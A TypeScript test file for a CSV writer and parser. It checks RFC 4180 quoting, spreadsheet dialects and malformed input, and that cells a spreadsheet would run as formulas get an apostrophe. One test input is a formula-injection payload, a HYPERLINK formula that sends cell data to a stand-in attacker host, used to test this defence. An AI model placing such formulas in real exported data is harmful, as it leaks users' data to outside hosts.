/** Comma-separated values: every cell is read as it was written, and none is a formula. */

import fc from 'fast-check'
import t from 'tap'
import { csvLine, csvRecords } from '../../../src/cli/grants/csv-text.ts'

const cellsOf = (text: string) => csvRecords(text).map(({ cells }) => cells)

t.test('any cells, back and forth', async () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\r', '\n', '\t', ' ', 'a', '＝'),
    }),
  )
  const row = fc.array(cell, { minLength: 2, maxLength: 4 })
  fc.assert(
    fc.property(fc.array(row, { maxLength: 4 }), (rows) => {
      // As in a file: without the heading, the first cell could begin with a byte order mark or name a separator.
      const text = ['a', 'b', 'c'].join(',') + '\r\n' + rows.map(csvLine).join('')
      return JSON.stringify(cellsOf(text).slice(1)) === JSON.stringify(rows)
    }),
  )
})

t.test('a cell that a spreadsheet program would run gets an apostrophe', async (t) => {
  for (const cell of [
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
    "'=1",
    "''@x",
  ]) {
    const line = csvLine([cell, 'x'])
    t.match(line, /^"?'/, cell)
    t.same(cellsOf(`h,h\r\n${line}`)[1], [cell, 'x'], 'and is read without it')
  }
  for (const cell of ['a=1', "O'Brien", "'quoted'", '', 'a-b', '1+1'])
    t.equal(csvLine([cell, 'x']), `${cell},x\r\n`)
})

t.test('as RFC 4180 has it', async (t) => {
  t.equal(csvLine(['a,b', 'a"b', 'a\r\nb', ' a', 'a;b']), '"a,b","a""b","a\r\nb"," a","a;b"\r\n')
  t.same(cellsOf('a,b\r\n1,2\r\n'), [
    ['a', 'b'],
    ['1', '2'],
  ])
  t.same(cellsOf('a,b\n"1\n2",""""'), [
    ['a', 'b'],
    ['1\n2', '"'],
  ])
  t.same(cellsOf('a,b\n1,'), [
    ['a', 'b'],
    ['1', ''],
  ])
  t.same(cellsOf('\n\na,b\r\r1,2\n\n'), [
    ['a', 'b'],
    ['1', '2'],
  ])
  t.same(cellsOf(''), [])
  t.same(
    csvRecords('a,b\n"x\r\ny",z\n\n1,2').map(({ line }) => line),
    [1, 2, 5],
    'the number of the first line of each',
  )
})

t.test('as spreadsheet programs write it', async (t) => {
  t.same(cellsOf('\ufeffa,b\r\n1,2\r\n')[0], ['a', 'b'], 'a byte order mark')
  t.same(cellsOf('a;b\r\n"1;x";2,5\r\n')[1], ['1;x', '2,5'], 'semicolons')
  t.same(cellsOf('a\tb\r\n1,5\t2\r\n')[1], ['1,5', '2'], 'tabs')
})

t.test('quotation marks that do not enclose a cell', async (t) => {
  for (const text of ['a,b\n"x"y,1', 'a,b\nx"y",1', 'a,b\nx"', 'a,b\n"x', 'a,b\n"x""', 'a,b\n"x" ,1'])
    t.throws(() => csvRecords(text), { message: /^line 2: a quotation mark/ }, text)
  // In linear time, and without recursion.
  const long = `"${'x""'.repeat(1_000_000)}`
  t.throws(() => csvRecords(long), { message: /^line 1: a quotation mark/ })
  t.throws(() => csvRecords('x'.repeat(64 * 1024 * 1024 + 1)), { message: /^it has more than/ })
})
